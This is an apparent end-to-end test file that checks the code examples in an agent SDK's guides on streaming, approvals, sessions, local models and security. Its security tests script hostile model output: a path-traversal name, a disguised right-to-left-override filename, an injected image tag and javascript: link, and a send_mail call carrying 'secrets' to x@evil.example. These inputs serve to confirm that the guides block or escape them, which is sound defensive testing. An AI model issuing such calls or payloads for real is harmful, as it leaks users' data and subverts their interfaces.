// Runs the code of the guides, and holds what the guides say it prints to what it prints.
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { after, before, describe, test } from "node:test";
import type { Dialog, Page } from "puppeteer-core";
import { assertNoMishaps, openTestPage, until, type Guides } from "./browser.js";
import { beginning, call, message, response, type Json } from "./sse.js";
import { browser, server } from "./stage.js";

/** Tests a guide on a page of its own: every example runs, and every output that the guide shows is printed. */
function guide(name: keyof Guides, define: (page: () => Page, shows: (printed: string) => void) => void): void {
  describe(`docs/${name}.md`, () => {
    let page: Page;
    const text = readFileSync(new URL(`../../../../docs/${name}.md`, import.meta.url), "utf8"); // from web/dist/test/e2e
    const outputs = [...text.matchAll(/^```text\n(.*?)\n```$/gms)].map(([, output]) => output!);
    const unprinted = new Set(outputs);
    before(async () => {
      page = await openTestPage(browser, server.url, "worker");
    });
    after(async () => {
      await assertNoMishaps(page);
      await page.close();
    });

    define(
      () => page,
      (printed) => {
        assert(outputs.includes(printed), `docs/${name}.md has no \`\`\`text block with\n${printed}`);
        unprinted.delete(printed);
      },
    );

    test("every example has run, and printed what the guide shows", async () => {
      assert.deepEqual(await page.evaluate((name) => window.idleExamples(name), name), []);
      assert.deepEqual([...unprinted], []);
    });
  });
}

guide("streaming", (page, shows) => {
  const sunny = () => [response(call("weather", "call_1", { city: "Oslo" })), response(message("It is", " sunny."))];

  test("text is shown as it comes", async () => {
    const { baseURL } = server.script(...sunny());
    const shown = await page().evaluate(async (baseURL) => {
      const { ask } = await window.guide("streaming", baseURL);
      const output = document.createElement("output");
      await ask("How is Oslo?", output);
      return output.childNodes.length === 2 && output.textContent;
    }, baseURL);
    assert.equal(shown, "It is sunny.");
  });

  test("the three kinds of events", async () => {
    const { baseURL } = server.script(...sunny());
    shows(await page().evaluate(async (baseURL) => {
      const { narrate } = await window.guide("streaming", baseURL);
      return window.printed(() => narrate("How is Oslo?"));
    }, baseURL));
  });

  test("what is known at the end", async () => {
    const { baseURL } = server.script(...sunny());
    shows(await page().evaluate(async (baseURL) => {
      const { account } = await window.guide("streaming", baseURL);
      return window.printed(() => account("How is Oslo?"));
    }, baseURL));
  });

  test("a conversation goes on", async () => {
    const script = server.script(response(message("Oslo.")), response(message("700,000.")));
    const printed = await page().evaluate(async (baseURL) => {
      const { converse } = await window.guide("streaming", baseURL);
      return window.printed(() => converse(["Norway's capital?", "How many live there?"]));
    }, script.baseURL);
    assert.equal(printed, "Oslo.\n700,000.");
    assert.deepEqual((script.requests[1]!.body.input as { role: string }[]).map(({ role }) => role), ["user", "assistant", "user"]);
  });

  test("a button stops a run", async () => {
    const script = server.script({ hangAfter: beginning() });
    const running = page().evaluate(async (baseURL) => {
      const { askUntilStopped } = await window.guide("streaming", baseURL);
      const stop = document.createElement("button");
      stop.id = "stop";
      document.body.append(stop);
      return window.printed(() => askUntilStopped("How is Oslo?", stop));
    }, script.baseURL);
    const { closedByClient } = await script.request(0);
    await page().evaluate(() => document.querySelector<HTMLButtonElement>("#stop")!.click());
    assert.match(await running, /stopped$/);
    assert.equal(await closedByClient, true);
  });

  test("a signal stops a run, and its reason is thrown", async () => {
    const { baseURL } = server.script({ hangAfter: beginning() });
    const printed = await page().evaluate(async (baseURL) => {
      const { askWhileShown } = await window.guide("streaming", baseURL);
      const controller = new AbortController();
      const printed = window.printed(() => askWhileShown("How is Oslo?", controller.signal));
      controller.abort(new Error("the panel was closed"));
      return printed;
    }, baseURL);
    assert.match(printed, /stopped: Error: the panel was closed$/);
  });

  test("an error comes last, and what came before stays", async () => {
    const { baseURL } = server.script(...sunny());
    shows(await page().evaluate(async (baseURL) => {
      const { askCarefully } = await window.guide("streaming", baseURL);
      return window.printed(() => askCarefully("How is Oslo?"));
    }, baseURL));
  });
});

guide("approvals", (page, shows) => {
  const remove = (...paths: string[]) => response(...paths.map((path, i) => call("delete_file", `call_${i}`, { path })));
  const outputs = (body: { input: Json }) => (body.input as { output?: string }[]).flatMap(({ output }) => output ?? []);

  test("calls are decided on one by one, and the run goes on", async () => {
    const script = server.script(
      response(
        call("write_file", "call_1", { path: "/drafts/report" }),
        call("delete_file", "call_2", { path: "/logs/a" }),
        call("delete_file", "call_3", { path: "/logs/b" }),
      ),
      response(message("Done.")),
    );
    shows(await page().evaluate(async (baseURL) => {
      const { work } = await window.guide("approvals", baseURL);
      return window.printed(() => work("Tidy up", async (call) => call.arguments.includes("/logs/a")));
    }, script.baseURL));
    assert.deepEqual(outputs(script.requests[1]!.body), ["/drafts/report is written", "/logs/a is gone", "The user wants to keep it."]);
  });

  test("a file that is no draft is asked about, and the card shows what hides", async () => {
    const script = server.script(response(call("write_file", "call_1", { path: "/exe.\u202egpj" })), response(message("Done.")));
    const running = page().evaluate(async (baseURL) => {
      const { askOnPage, work } = await window.guide("approvals", baseURL);
      return window.printed(() => work("Write it", askOnPage));
    }, script.baseURL);
    await until(page(), () => document.querySelector("form") !== null);
    const shown = await page().evaluate(() => {
      const text = document.querySelector("pre")!.textContent;
      document.querySelectorAll("button").forEach((button) => button.value === "approve" && button.click());
      return text;
    });
    assert.equal(shown, 'write_file {"path":"/exe.⟨U+202E⟩gpj"}');
    assert.match(await running, /gpj is written\nDone\.$/);
    assert.equal(await page().evaluate(() => document.querySelector("form")), null);
  });

  test("one approval may hold for later calls", async () => {
    const script = server.script(remove("/a"), response(call("delete_file", "call_9", { path: "/b" })), response(message("Both are gone.")));
    const printed = await page().evaluate(async (baseURL) => {
      const { approveAll } = await window.guide("approvals", baseURL);
      return window.printed(() => approveAll("Remove them"));
    }, script.baseURL);
    assert.equal(printed, "Both are gone.");
    assert.deepEqual(outputs(script.requests[2]!.body), ["/a is gone", "/b is gone"]);
  });

  test("words of the user follow a rejection", async () => {
    const script = server.script(remove("/a"), response(message("I archived it.")));
    const printed = await page().evaluate(async (baseURL) => {
      const { sayInstead } = await window.guide("approvals", baseURL);
      return window.printed(() => sayInstead("Remove it", "Archive it instead."));
    }, script.baseURL);
    assert.equal(printed, "I archived it.");
    const last = (script.requests[1]!.body.input as { output?: string; content?: string }[]).slice(-2);
    assert.match(last[0]!.output!, /not approved/);
    assert.equal(last[1]!.content, "Archive it instead.");
  });

  test("a paused run is kept when the page is left, and found afterwards", async () => {
    const script = server.script(remove("/a"));
    const printed = await page().evaluate(async (baseURL) => {
      const { goOnAfterReload, keepWhenLeft } = await window.guide("approvals", baseURL);
      const { Agent, run, tool } = window.runstream;
      const tools = ["delete_file", "write_file"].map((name) => tool({ name, description: "", needsApproval: true, execute: () => "" }));
      keepWhenLeft((await run(new Agent({ name: "Janitor", model: "gpt-5", tools }), "Remove it")).toState());
      dispatchEvent(new Event("pagehide"));
      return [await window.printed(goOnAfterReload), await window.printed(goOnAfterReload)];
    }, script.baseURL);
    assert.deepEqual(printed, ['still open: delete_file {"path":"/a"}', ""]);
  });
});

guide("sessions", (page, shows) => {
  const contents = (body: { input: Json }) => (body.input as { content: string | { text: string }[] }[]).map(({ content }) => (typeof content === "string" ? content : content[0]!.text));

  test("a conversation is remembered", async () => {
    const script = server.script(response(message("Hello, Ada.")), response(message("Your name is Ada.")));
    shows(await page().evaluate(async (baseURL) => {
      const { chat } = await window.guide("sessions", baseURL);
      return window.printed(() => chat(["I am Ada.", "Who am I?"]));
    }, script.baseURL));
    assert.deepEqual(contents(script.requests[1]!.body), ["I am Ada.", "Hello, Ada.", "Who am I?"]);
  });

  test("a conversation is remembered in the browser, or not where it forbids that", async () => {
    const script = server.script(response(message("Hello, Ada.")), response(message("Your name is Ada.")), response(message("Hello.")));
    const ask = (question: string) =>
      page().evaluate(
        async (baseURL, question) => {
          const { remembered } = await window.guide("sessions", baseURL);
          return window.printed(() => remembered(question));
        },
        script.baseURL,
        question,
      );
    shows(await ask("I am Ada."));
    shows(await ask("Who am I?"));
    assert.deepEqual(contents(script.requests[1]!.body), ["I am Ada.", "Hello, Ada.", "Who am I?"]);
    await page().evaluate(() => {
      const given = Object.getOwnPropertyDescriptor(window, "indexedDB")!;
      Object.defineProperty(window, "indexedDB", { value: undefined, configurable: true });
      Object.assign(window, { giveBack: () => Object.defineProperty(window, "indexedDB", given) });
    });
    assert.equal(await ask("Hi"), "Not remembered: Hello.");
    await page().evaluate(() => (window as unknown as { giveBack(): void }).giveBack());
  });

  test("a session on a server is read and written, and a message corrected", async () => {
    const script = server.script(response(message("Hello, Ida.")), response(message("Hello, Ada.")));
    const got = await page().evaluate(async (baseURL) => {
      const { rephrase, serverSession } = await window.guide("sessions", baseURL);
      const { Agent, run } = window.runstream;
      let items: unknown[] = [];
      const { fetch } = window;
      // The server that the guide's session asks.
      window.fetch = async (url, { method, body } = {}) => {
        const path = String(url).replace("/conversations/7", "");
        if (path === String(url)) return new Response("", { status: 404 });
        if (method === "POST") items.push(...(JSON.parse(body as string) as unknown[]));
        if (method === "DELETE" && path === "/latest") return Response.json(items.pop() ?? null);
        if (method === "DELETE") items = [];
        return Response.json(method === "GET" ? items.slice(-Number(path.replace("?latest=", ""))) : null);
      };
      const session = serverSession("/conversations/7");
      await run(new Agent({ name: "A", model: "gpt-5" }), "I am Ida.", { session });
      const printed = await window.printed(() => rephrase(session, "I am Ada."));
      const kept = (await session.getItems()).map((item) => item["role"] as string);
      const latest = await session.getItems(1);
      const elsewhere = await Promise.resolve(serverSession("/nowhere").getItems()).then(() => "", String);
      await session.clearSession();
      window.fetch = fetch;
      return { printed, kept, latest: latest.length, elsewhere, left: items.length, id: await session.getSessionId?.() };
    }, script.baseURL);
    assert.deepEqual(got, {
      printed: "Hello, Ada.",
      kept: ["user", "assistant"],
      latest: 1,
      elsewhere: "Error: The conversation's server answered 404.",
      left: 0,
      id: "/conversations/7",
    });
    assert.deepEqual(contents(script.requests[1]!.body), ["I am Ada."]);
  });

  test("a long conversation is read in part, filtered and shortened", async () => {
    const script = server.answering(() => response(message("Yes.")));
    const left = await page().evaluate(async (baseURL) => {
      const { ownWords, recent, shortened } = await window.guide("sessions", baseURL);
      const { Agent, MemorySession, run } = window.runstream;
      const agent = new Agent({ name: "A", model: "gpt-5" });
      const items = Array.from({ length: 101 }, (_, i) => ({ type: "message", role: i % 2 ? "assistant" : "user", content: `${i}` }));
      const session = new MemorySession({ items });
      await run(agent, "recent", { session, ...recent });
      await run(agent, "own words", { session, ...ownWords });
      await run(agent, "shortened", { session, ...shortened });
      return session.getItems().map((item) => item["content"] as string);
    }, script.baseURL);
    const [recent, own] = script.requests.map(({ body }) => contents(body));
    assert.equal(recent!.length, 21);
    assert.deepEqual(own!.slice(-3), ["100", "recent", "own words"]);
    assert(!own!.includes("99"));
    assert(left.length <= 50);
    assert.equal(left[0], "58");
  });
});

guide("local-models", (page, shows) => {
  test("a function in a model's place answers, and calls a tool", async () => {
    const got = await page().evaluate(async () => {
      const { ask, localModel } = await window.guide("local-models");
      const asked: { role: string; content: string }[][] = [];
      const model = localModel(async function* (messages) {
        asked.push([...messages]);
        yield* asked.length === 1 ? ['{"tool": "weather", ', '"arguments": {"city": "Oslo"}}'] : ["It is sunny", " in Oslo."];
      });
      return { printed: await window.printed(() => ask("How is Oslo?", model)), asked };
    });
    shows(got.printed);
    assert.match(got.asked[0]![0]!.content, /^Be brief\.\nTo use a tool, .*"name":"weather"/);
    assert.deepEqual(got.asked[1]!.slice(1), [
      { role: "user", content: "How is Oslo?" },
      { role: "assistant", content: '{"tool": "weather", "arguments": {"city":"Oslo"}}' },
      { role: "user", content: "The tool gave: sunny in Oslo" },
    ]);
  });

  test("an answer that only begins like a call is text, and so is JSON that is none", async () => {
    for (const text of ["{ is a brace", "42", "null", '"quoted"', '{"n":1}', "[1,2]"]) {
      const printed = await page().evaluate(async (text) => {
        const { ask, localModel } = await window.guide("local-models");
        return window.printed(() => ask("Say it", localModel(async function* () {
          yield text;
        })));
      }, text);
      assert.equal(printed, text.startsWith("{") ? "message_output_created" : `${text}\nmessage_output_created`);
    }
  });

  test("a stopped run stops the function", async () => {
    const got = await page().evaluate(async () => {
      const { ask, localModel } = await window.guide("local-models");
      const controller = new AbortController();
      const reason = new Error("enough");
      let ended: (aborted: boolean) => void;
      const end = new Promise<boolean>((resolve) => (ended = resolve));
      const model = localModel(async function* (_, signal) {
        try {
          yield "Once";
          await new Promise((resolve) => signal.addEventListener("abort", resolve));
          yield " upon";
        } finally {
          ended(signal.aborted);
        }
      });
      const { log } = console;
      console.log = () => controller.abort(reason);
      const thrown = await ask("Tell a story", model, controller.signal).catch((error: unknown) => error);
      console.log = log;
      return { same: thrown === reason, aborted: await end };
    });
    assert.deepEqual(got, { same: true, aborted: true });
  });

  test("a function that throws ends the run with what it threw as the cause", async () => {
    const message = await page().evaluate(async () => {
      const { ask, localModel } = await window.guide("local-models");
      const model = localModel(async function* () {
        yield "Half";
        throw new RangeError("out of memory");
      });
      return window.printed(() => ask("Hi", model).catch((error: Error) => console.log((error.cause as Error).name)));
    });
    assert.equal(message, "Half\nRangeError");
  });
});

guide("security", (page, shows) => {
  test("a token goes with the request; what a model names stays within its folder; links are links", async () => {
    const script = server.script(
      response(call("read_note", "call_1", { name: "../admin?all=1" })),
      response(message('See https://a.example/b and <img src="https://evil.example/x"> javascript:alert(1)')),
    );
    const got = await page().evaluate(async (baseURL) => {
      const { signIn, work } = await window.guide("security", baseURL);
      const asked: string[] = [];
      const { fetch } = window;
      window.fetch = async (url, { method } = {}) => (asked.push(`${method ?? "GET"} ${String(url)}`), new Response(method === "POST" ? "short-lived" : "a note"));
      signIn(baseURL);
      const output = document.createElement("output");
      await work("Read it", output);
      window.fetch = fetch;
      return { asked, html: output.innerHTML };
    }, script.baseURL);
    assert.deepEqual(got.asked, ["POST /token", "GET /notes/..%2Fadmin%3Fall%3D1", "POST /token"]);
    assert.equal(script.requests[0]!.headers.authorization, "Bearer short-lived");
    assert.equal(
      got.html,
      'See <a href="https://a.example/b" rel="noreferrer" target="_blank">https://a.example/b</a> and &lt;img src="' +
        '<a href="https://evil.example/x" rel="noreferrer" target="_blank">https://evil.example/x</a>"&gt; javascript:alert(1)',
    );
  });

  test("what acts waits, and a state from outside is checked", async () => {
    const script = server.script(response(call("send_mail", "call_1", { to: "x@evil.example", text: "secrets" })));
    const got = await page().evaluate(async (baseURL) => {
      const { load, work } = await window.guide("security", baseURL);
      const output = document.createElement("output");
      await work("Read my mail", output);
      const printed = await window.printed(() => load('{"$schemaVersion": "1.21", "evil": true}'));
      return { text: output.textContent, printed };
    }, script.baseURL);
    assert.equal(got.text, "");
    shows(got.printed);
  });
});

guide("states", (page) => {
  test("a paused run goes on by what the user confirms", async () => {
    const script = server.script(
      response(call("delete_file", "call_1", { path: "a.log" }), call("delete_file", "call_2", { path: "b.log" })),
      response(message("Done.")),
    );
    const asked: string[] = [];
    const decide = (dialog: Dialog): void => {
      asked.push(dialog.message());
      void (dialog.message().includes("a.log") ? dialog.accept() : dialog.dismiss());
    };
    page().on("dialog", decide);
    const got = await page().evaluate(async (baseURL) => {
      const { goOn, pause } = await window.guide("states", baseURL);
      const { fetch } = window;
      const deleted: string[] = [];
      window.fetch = async (url) => (deleted.push(String(url)), new Response("", { statusText: "OK" }));
      await window.printed(pause);
      const before = deleted.length;
      const printed = await window.printed(goOn);
      window.fetch = fetch;
      return { before, deleted, printed, kept: localStorage.getItem("paused") };
    }, script.baseURL);
    page().off("dialog", decide);
    assert.deepEqual(asked, ['delete_file {"path":"a.log"}', 'delete_file {"path":"b.log"}']);
    assert.deepEqual({ ...got, printed: got.printed.split("\n").at(-1) }, {
      before: 0, deleted: ["/files/a.log"], printed: "run_item_stream_event", kept: null,
    });
    const outputs = (script.requests[1]!.body.input as { output?: string }[]).slice(-2).map(({ output }) => output);
    assert.deepEqual(outputs, ["OK", "Not on a Friday."]);
  });
});
